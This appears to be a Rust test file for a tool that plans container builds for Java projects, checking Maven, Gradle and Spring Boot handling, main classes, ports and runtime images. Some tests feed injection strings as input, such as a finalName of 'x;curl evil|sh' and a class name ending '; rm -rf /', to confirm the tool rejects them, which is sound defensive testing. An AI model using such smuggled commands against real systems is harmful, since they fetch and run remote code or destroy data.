use super::*;
use super::main_class::main_class_of;
use super::spring::port_value;

fn java_of(plan: &Plan) -> JavaPlan {
    serde_json::from_value(plan.section["java"].clone()).unwrap()
}

use crate::plan::{resolve};
use crate::model::{Choices, Plan};

fn project(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, body) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, body).unwrap();
        if *name == "mvnw" || *name == "gradlew" {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    dir
}

fn plan_with(files: &[(&str, &str)], choices: Choices) -> Result<Plan> {
    let dir = project(files);
    resolve(&DirIndex::scan(dir.path()).unwrap(), &choices)
}

fn plan_of(files: &[(&str, &str)]) -> Result<Plan> {
    plan_with(files, Choices::default())
}

fn err(files: &[(&str, &str)]) -> String {
    format!("{:#}", plan_of(files).unwrap_err())
}

const APP: (&str, &str) = ("src/main/java/a/App.java", "package a;\npublic class App { public static void main(String[] args) {} }\n");

fn boot_pom(version: &str, extra: &str) -> String {
    format!(
        "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>{version}</version></parent>\
         <artifactId>demo</artifactId><version>1.0</version><properties><java.version>17</java.version></properties>\
         <build><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId>{extra}</plugin></plugins></build></project>"
    )
}

#[test]
fn spring_boot_versions_pick_extraction_and_launcher() {
    let cases = [
        ("3.3.5", Some("-Djarmode=tools -jar target/demo-1.0.jar extract --layers --launcher"), "org.springframework.boot.loader.launch.JarLauncher"),
        ("4.0.0", Some("-Djarmode=tools"), "org.springframework.boot.loader.launch.JarLauncher"),
        ("3.2.4", Some("-Djarmode=layertools -jar target/demo-1.0.jar extract"), "org.springframework.boot.loader.launch.JarLauncher"),
        ("2.7.18", Some("-Djarmode=layertools"), "org.springframework.boot.loader.JarLauncher"),
    ];
    for (version, extract, launcher) in cases {
        let plan = plan_of(&[("pom.xml", &boot_pom(version, ""))]).unwrap();
        let j = java_of(&plan);
        assert_eq!(j.layout, JarLayout::Boot, "{version}");
        assert!(j.prepare[0].contains(extract.unwrap()), "{version}: {:?}", j.prepare);
        assert_eq!(plan.start, vec!["java".to_string(), launcher.to_string()], "{version}");
    }
    // Before layered jars (2.4), the fat jar runs as is.
    let plan = plan_of(&[("pom.xml", &boot_pom("2.3.12.RELEASE", ""))]).unwrap();
    assert_eq!(java_of(&plan).layout, JarLayout::Jar);
    assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
    // A classifier changes the artefact's name.
    let plan = plan_of(&[("pom.xml", &boot_pom("3.3.5", "<configuration><classifier>exec</classifier></configuration>"))]).unwrap();
    assert_eq!(java_of(&plan).artifact, "target/demo-1.0-exec.jar");
}

#[test]
fn spring_boot_without_a_runnable_jar_is_refused() {
    let no_plugin = "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.5</version></parent><artifactId>d</artifactId></project>";
    assert!(err(&[("pom.xml", no_plugin)]).contains("no spring-boot-maven-plugin"));
    let bom_no_goal = "<project><artifactId>d</artifactId><version>1</version><dependencyManagement><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-dependencies</artifactId><version>3.3.5</version><type>pom</type><scope>import</scope></dependency></dependencies></dependencyManagement><build><plugins><plugin><artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>";
    assert!(err(&[("pom.xml", bom_no_goal)]).contains("no `repackage` goal"));
    let unknown = "<project><artifactId>d</artifactId><version>1</version><dependencyManagement><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-dependencies</artifactId><version>${boot}</version><scope>import</scope></dependency></dependencies></dependencyManagement></project>";
    assert!(err(&[("pom.xml", unknown)]).contains("cannot read its version"));
}

#[test]
fn maven_packaging_shapes() {
    let assembly = "<project><artifactId>tool</artifactId><version>2</version><build><plugins><plugin><artifactId>maven-assembly-plugin</artifactId>\
        <configuration><descriptorRefs><descriptorRef>jar-with-dependencies</descriptorRef></descriptorRefs><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration>\
        <executions><execution><phase>package</phase><goals><goal>single</goal></goals></execution></executions></plugin></plugins></build></project>";
    let plan = plan_of(&[("pom.xml", assembly), APP]).unwrap();
    assert_eq!(java_of(&plan).artifact, "target/tool-2-jar-with-dependencies.jar");
    assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
    // Assembly 2.x's `attached` goal and its own finalName (sparkexample).
    let old = assembly.replace("<goal>single</goal>", "<goal>attached</goal>").replace("<configuration>", "<configuration><finalName>spark</finalName>");
    assert_eq!(java_of(&plan_of(&[("pom.xml", &old), APP]).unwrap()).artifact, "target/spark-jar-with-dependencies.jar");
    // maven-jar-plugin 2.x's own finalName names the plain jar.
    let jar = "<project><artifactId>j</artifactId><version>1</version><build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><finalName>named</finalName><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>";
    assert_eq!(java_of(&plan_of(&[("pom.xml", jar), APP]).unwrap()).artifact, "target/named.jar");

    // Vert.x's starter: the shade plugin's outputFile and a Main-Class in
    // its manifestEntries (the Launcher, a class of a dependency).
    let vertx = "<project><artifactId>vs</artifactId><version>1.0-SNAPSHOT</version><build><plugins><plugin><artifactId>maven-shade-plugin</artifactId>\
        <executions><execution><phase>package</phase><goals><goal>shade</goal></goals><configuration><transformers><transformer>\
        <manifestEntries><Main-Class>io.vertx.core.Launcher</Main-Class><Main-Verticle>a.MainVerticle</Main-Verticle></manifestEntries></transformer></transformers>\
        <outputFile>${project.build.directory}/${project.artifactId}-${project.version}-fat.jar</outputFile></configuration></execution></executions></plugin></plugins></build></project>";
    let plan = plan_of(&[("pom.xml", vertx)]).unwrap();
    assert_eq!(java_of(&plan).artifact, "target/vs-1.0-SNAPSHOT-fat.jar");
    assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
    let outside = vertx.replace("${project.build.directory}/", "/tmp/");
    assert!(plan_of(&[("pom.xml", &outside)]).unwrap_err().to_string().contains("<outputFile>"));

    // A jar-plugin main class but runtime dependencies: classpath, not -jar.
    let thin = "<project><artifactId>t</artifactId><version>1</version><dependencies><dependency><groupId>x</groupId><artifactId>y</artifactId><version>1</version></dependency></dependencies>\
        <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>";
    let plan = plan_of(&[("pom.xml", thin)]).unwrap();
    assert_eq!(plan.start, ["java", "-cp", "/app/app.jar:/app/lib/*", "a.App"]);
    assert!(java_of(&plan).build_cmd.contains("dependency:copy-dependencies -DincludeScope=runtime"));

    // The distroless entrypoint is `java -jar`, so a runnable jar's CMD is only the jar.
    let runnable = "<project><artifactId>r</artifactId><version>1</version><build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>";
    let plan = plan_with(&[("pom.xml", runnable)], Choices { runtime: Some(RuntimeKind::Distroless), ..Default::default() }).unwrap();
    let j = java_of(&plan);
    assert!(j.entrypoint_is_java_jar);
    assert_eq!(j.cmd, ["/app/app.jar"]);
}

#[test]
fn main_class_from_sources_or_flag_or_unresolved() {
    let pom = ("pom.xml", "<project><artifactId>t</artifactId><version>1</version></project>");
    let plan = plan_of(&[pom, APP]).unwrap();
    assert_eq!(plan.start, ["java", "-cp", "/app/app.jar:/app/lib/*", "a.App"]);
    let two = [pom, APP, ("src/main/kotlin/b/tool.kt", "package b\nfun main() {}\n")];
    let plan = plan_of(&two).unwrap();
    assert_eq!(plan.unresolved.len(), 1);
    assert_eq!(plan.unresolved[0].choices, ["a.App", "b.ToolKt"]);
    assert_eq!(plan.unresolved[0].hint, "--main <a.App|b.ToolKt>");
    let plan = plan_with(&two, Choices { main: Some("b.ToolKt".into()), ..Default::default() }).unwrap();
    assert!(plan.unresolved.is_empty());
    assert_eq!(plan.start.last().unwrap(), "b.ToolKt");
    let bad = plan_with(&two, Choices { main: Some("a.App\nRUN x".into()), ..Default::default() }).unwrap_err();
    assert!(bad.to_string().contains("is not a Java class name"), "{bad}");
    let none = plan_of(&[pom]).unwrap();
    assert!(none.unresolved[0].message.contains("cannot find the main class: no src/main/java/"), "{}", none.unresolved[0].message);
}

#[test]
fn refusals_name_the_file_and_the_fix() {
    assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><modules><module>a</module></modules></project>")]).contains("multi-module build (modules: a)"));
    assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><packaging>war</packaging></project>")]).contains("packages a war"));
    assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><build><finalName>x;curl evil|sh</finalName></build></project>"), APP]).contains("only writes names of letters"));
    assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><build><finalName>${ci.name}</finalName></build><version>1</version></project>"), APP]).contains("cannot resolve"));
    assert!(err(&[("pom.xml", "<project>\n<artifactId>p</artifactId>\n<version>1</version\n</project>")]).contains("pom.xml is not valid XML at line"));
    assert!(err(&[("build.gradle", "plugins { id 'java' }\ndependencies {\n  implementation 'x:y:1'\n}\n")]).contains("neither the application nor a shadow plugin"));
    assert!(err(&[("build.gradle", "plugins { id 'application' }\n"), ("settings.gradle", "include 'api'\n")]).contains("includes subprojects (api)"));
    assert!(err(&[("build.gradle", "plugins { id 'application' }\nversion = gitVersion()\n"), ("settings.gradle", "rootProject.name = 'x'\n")]).contains("sets the version with code"));
}

#[test]
fn build_tool_choice_prefers_the_wrapper() {
    let gradle_wrapped = [
        ("pom.xml", "<project><artifactId>m</artifactId><version>1</version></project>"),
        ("build.gradle", "plugins { id 'application' }\napplication { mainClass = 'a.App' }\nversion = '3'\n"),
        ("settings.gradle", "rootProject.name = 'g'\n"),
        ("gradlew", "#!/bin/sh\n"),
        ("gradle/wrapper/gradle-wrapper.jar", "jar"),
        ("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n"),
        APP,
    ];
    let plan = plan_of(&gradle_wrapped).unwrap();
    let j = java_of(&plan);
    assert_eq!(j.tool, BuildTool::Gradle);
    assert_eq!(j.tool_cmd, "./gradlew");
    assert_eq!(plan.images.builder, "eclipse-temurin:21-jdk");
    // No Java level in the build: the newest LTS Gradle 8.5 runs on.
    assert_eq!(plan.version.value, "21");
    assert!(plan.warnings.iter().any(|w| w.contains("using gradle because it has a wrapper")), "{:?}", plan.warnings);
    assert_eq!(j.prepare, ["mkdir -p /out", "cp -r build/install/g/lib /out/lib", "mv /out/lib/g-3.jar /out/app.jar"]);
}

#[test]
fn gradle_wrapper_limits_the_jdk() {
    let with = |wrapper: &str, script: &str| {
        plan_of(&[
            ("build.gradle", script),
            ("settings.gradle", "rootProject.name = 'g'\n"),
            ("gradlew", "#!/bin/sh\n"),
            ("gradle/wrapper/gradle-wrapper.jar", "jar"),
            ("gradle/wrapper/gradle-wrapper.properties", &format!("distributionUrl=https\\://services.gradle.org/distributions/gradle-{wrapper}-bin.zip\n")),
            APP,
        ])
    };
    let toolchain21 = "plugins { id 'application' }\njava { toolchain { languageVersion = JavaLanguageVersion.of(21) } }\n";
    let e = format!("{:#}", with("7.4", toolchain21).unwrap_err());
    assert!(e.contains("Gradle 7.4") && e.contains("cannot run on JDK 21") && e.contains("--gradle-version 8.5"), "{e}");
    assert_eq!(with("7.4", "plugins { id 'application' }\n").unwrap().version.value, "17");
    let old_level = "plugins { id 'application' }\nsourceCompatibility = '11'\n";
    let plan = with("9.2.0", old_level).unwrap();
    assert_eq!(plan.version.value, "17", "Gradle 9 needs JDK 17 to run");
    assert!(plan.version.source.contains("oldest LTS Gradle 9.2.0 runs on"), "{}", plan.version.source);
    let e = plan_with(
        &[("build.gradle", old_level), ("settings.gradle", "rootProject.name = 'g'\n"), ("gradlew", "#!/bin/sh\n"), ("gradle/wrapper/gradle-wrapper.jar", "j"),
          ("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/distributions/gradle-7.4-bin.zip\n"), APP],
        Choices { lang_version: Some("25".into()), ..Default::default() },
    )
    .unwrap_err();
    assert!(e.to_string().contains("Gradle 7.4 (the wrapper) cannot run on JDK 25"), "{e}");
}

#[test]
fn gradle_names_and_versions() {
    // No settings.gradle: the project is named after the build folder.
    let plan = plan_of(&[("build.gradle.kts", "plugins {\n  application\n}\napplication { mainClass.set(\"a.App\") }\n"), APP]).unwrap();
    assert_eq!(java_of(&plan).artifact, "build/libs/app.jar");
    assert!(plan.warnings.iter().any(|w| w.contains("no settings.gradle")));
    // Spring Boot's version from the version catalog; bootJar's own file name.
    let plan = plan_of(&[
        ("build.gradle.kts", "plugins {\n  alias(libs.plugins.spring.boot)\n  id(\"org.springframework.boot\")\n}\ntasks.bootJar { archiveFileName.set(\"service.jar\") }\n"),
        ("settings.gradle.kts", "rootProject.name = \"svc\"\n"),
        ("gradle/libs.versions.toml", "[versions]\nboot = \"3.4.1\"\n[plugins]\nspring-boot = { id = \"org.springframework.boot\", version.ref = \"boot\" }\n"),
    ])
    .unwrap();
    assert_eq!(plan.framework.as_deref(), Some("Spring Boot 3.4.1"));
    assert_eq!(java_of(&plan).artifact, "build/libs/service.jar");
    assert!(plan.deps.as_ref().unwrap().binds.ends_with(&["gradle".to_string()]), "{:?}", plan.deps);
    // Shadow: the -all jar, Main-Class from the application plugin.
    let plan = plan_of(&[
        ("build.gradle", "plugins {\n id 'application'\n id 'com.gradleup.shadow' version '8.3.5'\n}\nversion = '1.1'\napplication { mainClass = 'a.App' }\ndependencies {\n implementation 'x:y:1'\n}\n"),
        ("settings.gradle", "rootProject.name = 'cli'\n"),
    ])
    .unwrap();
    assert_eq!(java_of(&plan).artifact, "build/libs/cli-1.1-all.jar");
    assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
}

#[test]
fn ports_from_spring_configuration() {
    let pom = boot_pom("3.3.5", "");
    let plan = plan_of(&[("pom.xml", &pom), ("src/main/resources/application.properties", "server.port=${PORT:9000}\n")]).unwrap();
    assert_eq!(plan.port.value, 9000);
    let plan = plan_of(&[("pom.xml", &pom), ("src/main/resources/application.yaml", "server:\n  port: 7001\n")]).unwrap();
    assert_eq!(plan.port.value, 7001);
    let plan = plan_of(&[("pom.xml", &pom)]).unwrap();
    assert_eq!((plan.port.value, plan.port.source.as_str()), (8080, "Spring Boot default"));
    let e = format!("{:#}", plan_of(&[("pom.xml", &pom), ("src/main/resources/application.yml", "server: [\n")]).unwrap_err());
    assert!(e.contains("application.yml is not valid YAML at line"), "{e}");
}

#[test]
fn runtimes_per_java_version() {
    let pom = |level: &str| format!("<project><artifactId>r</artifactId><version>1</version><properties><maven.compiler.release>{level}</maven.compiler.release></properties><build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>");
    let distroless = Choices { runtime: Some(RuntimeKind::Distroless), ..Default::default() };
    // Distroless has Java 11 on Debian 12 only, 21 on 12 and 13, 25 on 13,
    // and never had Java 8: the newest Debian that has the project's Java.
    let e = plan_with(&[("pom.xml", &pom("8"))], distroless.clone()).unwrap_err().to_string();
    assert!(e.starts_with("gcr.io/distroless/java8-debian13:nonroot was never published (image catalog of 2026-08-21): Java 8 (pom.xml (maven.compiler.release 8)) has no distroless image"), "{e}");
    assert!(e.contains("pass --lang-version <") && e.contains("or --runtime alpine|slim"), "{e}");
    let plan = plan_with(&[("pom.xml", &pom("11"))], distroless.clone()).unwrap();
    assert_eq!(plan.images.runtime, "gcr.io/distroless/java11-debian12:nonroot");
    let plan = plan_with(&[("pom.xml", &pom("21"))], distroless.clone()).unwrap();
    assert_eq!(plan.images.runtime, "gcr.io/distroless/java21-debian13:nonroot");
    let plan = plan_with(&[("pom.xml", &pom("25"))], distroless.clone()).unwrap();
    assert_eq!(plan.images.runtime, "gcr.io/distroless/java25-debian13:nonroot");
    // A non-LTS level runs on the next LTS.
    let plan = plan_of(&[("pom.xml", &pom("22"))]).unwrap();
    assert_eq!(plan.version.value, "25");
    assert_eq!(plan.images.runtime, "eclipse-temurin:25-jre");
    let e = plan_with(&[("pom.xml", &pom("21"))], Choices { lang_version: Some("17".into()), ..Default::default() }).unwrap_err().to_string();
    assert!(e.contains("JDK 17 cannot build this project: it compiles for Java 21"), "{e}");
    let scratch = plan_with(&[("pom.xml", &pom("21"))], Choices { runtime: Some(RuntimeKind::Scratch), ..Default::default() }).unwrap_err().to_string();
    assert!(scratch.contains("scratch has no Java runtime"), "{scratch}");
}

#[cfg(unix)]
#[test]
fn a_wrapper_without_its_executable_bit_runs_with_sh() {
    let dir = project(&[
        ("pom.xml", "<project><artifactId>w</artifactId><version>1</version></project>"),
        (".mvn/wrapper/maven-wrapper.properties", "distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n"),
        APP,
    ]);
    std::fs::write(dir.path().join("mvnw"), "#!/bin/sh\n").unwrap();
    let plan = resolve(&DirIndex::scan(dir.path()).unwrap(), &Choices::default()).unwrap();
    let j = java_of(&plan);
    assert_eq!(j.tool_cmd, "sh mvnw");
    assert_eq!(plan.deps.as_ref().unwrap().binds, ["pom.xml", "mvnw", ".mvn"]);
    assert_eq!(plan.images.builder, "eclipse-temurin:25-jdk");
    assert!(plan.warnings.iter().any(|w| w.contains("git update-index --chmod=+x mvnw")));
}

#[test]
fn levels_and_lts() {
    assert_eq!(parse_level("1.8"), Some(8));
    assert_eq!(parse_level("21"), Some(21));
    assert_eq!(parse_level("abc"), None);
    assert_eq!(parse_level("7"), None);
    assert_eq!(lts_for(17), 17);
    assert_eq!(lts_for(22), 25);
    assert_eq!(lts_for(27), 27);
}

#[test]
fn class_names_and_shell_safe_names() {
    assert!(valid_class_name("com.example.App"));
    assert!(valid_class_name("a.MainKt"));
    assert!(!valid_class_name("com.example.App; rm -rf /"));
    assert!(!valid_class_name("com..App"));
    assert!(!valid_class_name("1abc"));
    assert!(safe_name("demo-0.0.1-SNAPSHOT"));
    assert!(!safe_name("a b"));
    assert!(!safe_name("$(id)"));
    assert!(!safe_name("-rf"));
}

#[test]
fn main_classes_from_sources() {
    let java = "package a.b;\n/* static void main(String[] x) */\npublic class App {\n public static void main(String[] args) {}\n}";
    assert_eq!(main_class_of(java, "App.java", false).as_deref(), Some("a.b.App"));
    assert_eq!(main_class_of("package a;\nclass X { void main() {} }", "X.java", false), None);
    let kt = "package g\n\nfun main(args: Array<String>) {\n}\n";
    assert_eq!(main_class_of(kt, "greeterApp.kt", true).as_deref(), Some("g.GreeterAppKt"));
    let named = "@file:JvmName(\"Boot\")\npackage g\nfun main() {}\n";
    assert_eq!(main_class_of(named, "x.kt", true).as_deref(), Some("g.Boot"));
}

#[test]
fn ports_from_config_values_and_sources() {
    assert_eq!(port_value("8081"), Some(8081));
    assert_eq!(port_value("${PORT:9000}"), Some(9000));
    assert_eq!(port_value("${PORT}"), None);
    assert_eq!(source_port("HttpServer.create(new InetSocketAddress(9090), 0)"), Some(9090));
    assert_eq!(source_port("System.getenv().getOrDefault(\"PORT\", \"8080\")"), Some(8080));
    assert_eq!(source_port("Javalin.create().start(7070);"), Some(7070));
    assert_eq!(source_port("nothing"), None);
    // A port helper's fallback (javalin-heroku-example).
    let heroku = "static int getHerokuAssignedPort() {\n  ProcessBuilder pb = new ProcessBuilder();\n  if (pb.environment().get(\"PORT\") != null) {\n    return Integer.parseInt(pb.environment().get(\"PORT\"));\n  }\n  return 7070;\n}";
    assert_eq!(source_port(heroku), Some(7070));
    assert_eq!(main_class::framework_default_port("Spark"), Some(4567));
}
